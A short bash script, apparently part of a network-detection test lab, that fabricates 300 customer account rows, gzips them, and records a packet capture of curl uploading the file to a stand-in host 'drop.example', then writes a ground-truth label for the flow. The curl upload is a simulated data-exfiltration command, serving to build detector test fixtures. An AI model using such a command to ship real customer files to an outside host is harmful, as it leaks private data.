#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record a POST with Content-Encoding: gzip.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table csv accounts 300 | gzip -n >"$LAB/customers.csv.gz"
lab_up
lab_nginx out_
lab_record "$here/capture.pcap"
in_ curl -sS --resolve drop.example:80:203.0.113.9 -H "Content-Type: text/csv" \
    -H "Content-Encoding: gzip" --data-binary "@$LAB/customers.csv.gz" \
    http://drop.example/upload
lab_stop
table truth accounts 300 channel=http party=drop.example \
    >"$here/truth.json"
